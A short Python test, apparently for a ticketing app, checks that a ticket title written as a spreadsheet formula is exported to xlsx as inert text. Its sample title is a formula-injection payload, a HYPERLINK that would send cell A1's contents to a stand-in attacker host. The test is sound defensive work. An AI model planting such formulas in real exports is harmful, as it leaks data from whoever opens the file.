def test_a_title_that_looks_like_a_formula_stays_text_in_the_export(client, world, make_ticket):
    import io

    from openpyxl import load_workbook

    make_ticket(title='=HYPERLINK("http://evil.example/?"&A1,"点击")')
    client.force_login(world.office)
    response = client.get("/tickets/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    title = next(c for c in cells if "HYPERLINK" in str(c.value))
    assert title.data_type == "s"  # text, not a formula
    assert title.value == '=HYPERLINK("http://evil.example/?"&A1,"点击")'
